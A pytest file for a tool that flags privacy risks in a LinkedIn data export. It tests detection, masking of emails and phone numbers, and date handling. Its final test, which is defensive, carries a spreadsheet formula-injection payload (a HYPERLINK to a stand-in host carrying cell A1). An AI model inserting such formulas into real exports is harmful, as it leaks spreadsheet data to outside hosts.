"""Each kind of flag, with its file, ISO date, excerpt, link and where to act; contact details
masked unless --show; what the policy excludes is counted and never scanned."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest

from automation.review import Options, Review, review_export
from automation.review.mask import mask_all, mask_email, mask_phone
from automation.review.phones import Phones
from automation.review.synthetic import EMAIL, PHONE, build
from tests.helpers.made_export import TODAY, reviewed, zipped

POSTS = "Date,ShareLink,ShareCommentary,SharedUrl,MediaUrl,Visibility\n"
LINK = "https://www.linkedin.com/feed/update/urn%3Ali%3Ashare%3A7100000000000000001"


def csv_text(review: Review) -> str:
    from automation.review.flags_csv import write_csv

    out = io.BytesIO()
    write_csv(review, out)
    return out.getvalue().decode("utf-8-sig")


def kinds(review: Review) -> list[str]:
    return [f.kind for f in review.flags]


def test_an_email_in_a_post_is_flagged_with_its_date_link_and_where_masked() -> None:
    review = reviewed(zipped(Shares=POSTS + f'2024-03-05 14:22:01,{LINK},"Mail me at {EMAIL} today",,,PUBLIC\n'))
    [flag] = review.flags
    assert (flag.kind, flag.file, flag.date, flag.link) == ("email", "Shares.csv", "2024-03-05T14:22:01", LINK)
    assert "Delete post" in flag.where and EMAIL not in flag.excerpt and "r…e@e….org" in flag.excerpt


def test_show_shows_the_address_whole() -> None:
    review = reviewed(zipped(Shares=POSTS + f'2024-03-05 14:22:01,{LINK},"Mail me at {EMAIL} today",,,PUBLIC\n'), show=True)
    assert EMAIL in review.flags[0].excerpt


def test_a_phone_number_in_a_comment_points_at_the_post_commented_on() -> None:
    post = "https://www.linkedin.com/feed/update/urn:li:activity:7000000000000000001"
    review = reviewed(zipped(Comments=f'Date,Link,Message\n2025-01-02 10:00:00,{post},"Call {PHONE} anytime"\n'))
    [flag] = review.flags
    assert (flag.kind, flag.link, flag.date) == ("phone", post, "2025-01-02T10:00:00")
    assert PHONE not in flag.excerpt and "+44 2• •••• ••58" in flag.excerpt and "Comments" in flag.where


def test_dates_links_and_long_numbers_are_not_phone_numbers() -> None:
    text = f"Between 2019-2021, on 2024-03-05 14:22, see {LINK} and 1,000,000 users"
    review = reviewed(zipped(Shares=POSTS + f'2024-03-05 14:22:01,{LINK},"{text}",,,PUBLIC\n'))
    assert kinds(review) == []


def test_birth_date_and_address_in_the_profile_are_flagged() -> None:
    review = reviewed(zipped(Profile="First Name,Last Name,Address,Birth Date,Headline\n"
                                'Rowan,Vale,"12 Lantern Row, Exampleton",Mar 14,Engineer\n'))
    assert sorted(kinds(review)) == ["address", "birth-date"]
    assert {f.excerpt for f in review.flags} == {"12 Lantern Row, Exampleton", "Mar 14"}
    assert all("Contact info" in f.where or "profile" in f.where for f in review.flags)


def test_watch_words_match_any_case_in_all_content_but_not_inside_words() -> None:
    review = reviewed(zipped(Shares=POSTS + f'2024-03-05 14:22:01,{LINK},"Shipped for ACME today; acmeish is not it",,,PUBLIC\n',
                        Positions="Company Name,Title,Description,Started On\nNorthwind,Lead,Ran project x,Sep 2021\n"),
                 watch=("Acme", "Project X"))
    assert sorted((f.file, f.detail) for f in review.flags) == [("Positions.csv", "project x"), ("Shares.csv", "ACME")]


def test_content_older_than_the_cut_off_is_flagged_and_newer_is_not() -> None:
    rows = "".join(f"{day},{LINK}{i},\"post {i}\",,,PUBLIC\n" for i, day in
                   enumerate(["2021-11-26 10:00:00", "2021-11-28 10:00:00", "2012-01-01 00:00:00"]))
    review = reviewed(zipped(Shares=POSTS + rows))
    assert [(f.kind, f.date) for f in review.flags] == [("old", "2012-01-01T00:00:00"), ("old", "2021-11-26T10:00:00")]
    assert [f.kind for f in reviewed(zipped(Shares=POSTS + rows), older_than=20).flags] == []


def test_each_resume_is_flagged_once_in_full_and_each_saved_answer() -> None:
    review = reviewed(zipped(**{
        "Jobs_slash_Job Applications": ('Application Date,Company Name,Resume Name\n"11/3/25, 10:12 AM",Acme,Rowan_CV.pdf\n'
                                        '"4/20/22, 3:30 PM",Northwind,Rowan_CV.pdf\n"5/2/22, 9:00 AM",Contoso,Old_CV.docx\n'),
        "Job Applicant Saved Answers": "Question,Answer\nWilling to relocate?,Yes\nPlease submit a resume,8127.pdf\n"}))
    resumes = sorted((f.excerpt, f.date) for f in review.flags if f.kind == "resume")
    assert resumes == [("8127.pdf", None), ("Old_CV.docx", "2022-05-02T09:00:00"), ("Rowan_CV.pdf", "2025-11-03T10:12:00")]
    answers = [f.excerpt for f in review.flags if f.kind == "screening-answer"]
    assert answers == ["Willing to relocate? → Yes", "Please submit a resume → 8127.pdf"]
    assert all("Job application settings" in f.where for f in review.flags)


def test_an_unreadable_date_is_kept_as_text() -> None:
    review = reviewed(zipped(Votes="Date,Link,OptionText\nsometime in spring,urn:li:ugcPost:1,Tabs Acme\n"), watch=("Acme",))
    [flag] = review.flags
    assert flag.date is None and flag.date_text == "sometime in spring"
    assert review.files[0].notes == ["1 date(s) in no known format: kept as text"]


def test_messages_are_counted_never_scanned() -> None:
    review = reviewed(zipped(messages="CONVERSATION ID,FROM,DATE,CONTENT\n"
                                 f'c1,Sam,2025-01-01 10:00:00 UTC,"mail {EMAIL} or call {PHONE}, Acme"\n'
                                 "c2,Sam,2025-01-02 10:00:00 UTC,hello\n"), watch=("Acme",))
    assert review.flags == [] and review.files[0].rows == 2 and review.files[0].ai_training is False


def test_the_demo_export_has_every_kind_of_flag_old_content_oldest_first_the_rest_newest_first() -> None:
    review = reviewed(build("complete", today=TODAY).data, watch=("Acme", "Project Falcon"))
    counts = review.flag_counts()
    assert all(counts[kind] > 0 for kind in counts), counts
    for kind in counts:
        dates = [f.date for f in review.flags if f.kind == kind and f.date]
        assert dates == sorted(dates, reverse=kind != "old"), kind
    assert any(f.link and "/pulse/" in f.link for f in review.flags)  # the article's link


def test_masking_keeps_the_ends_and_hides_the_middle() -> None:
    assert mask_email("ada.lovelace@example.org") == "a…e@e….org"
    assert mask_phone("+44 20 7946 0958") == "+44 2• •••• ••58"
    assert mask_all(f"a {EMAIL} b {PHONE} c", Phones()) == "a r…e@e….org b +44 2• •••• ••58 c"


def test_a_resume_name_is_shown_in_full_but_a_field_too_long_for_a_file_name_is_cut_and_counted() -> None:
    from automation.review import LimitError, Limits

    rows = "".join(f"2024-01-0{i} 10:00:00,Acme,{'x' * 5000}{i}.pdf\n" for i in range(1, 5))
    data = zipped(Jobs_slash_Job__Applications="Application Date,Company Name,Resume Name\n" + rows)
    resumes = [f for f in reviewed(data).flags if f.kind == "resume"]
    assert len(resumes) == 4 and all(len(f.excerpt) < 300 and f.excerpt.endswith(".pdf") for f in resumes)
    with pytest.raises(LimitError, match="more than 3 flags"):
        review_export(data, Options(limits=Limits(flags=3)))


def test_the_csv_never_hands_a_spreadsheet_a_formula_from_the_export() -> None:
    """A recommendation or a post is text from the export; in a spreadsheet a cell starting with
    = + - @ would run as a formula. Each such cell starts with an apostrophe instead."""
    import csv

    data = zipped(Shares=POSTS + f'2024-01-01 10:00:00,{LINK},"=HYPERLINK(""http://x.example/?""&A1,""Acme"")",,,\n'
                  + f'2024-01-02 10:00:00,{LINK},"@SUM(1+1) Acme",,,\n')
    rows = list(csv.DictReader(io.StringIO(csv_text(reviewed(data, watch=("Acme",))))))
    excerpts = [row["excerpt"] for row in rows if row["kind"] == "watch-word"]
    assert len(excerpts) == 2 and all(e.startswith("'") for e in excerpts), excerpts
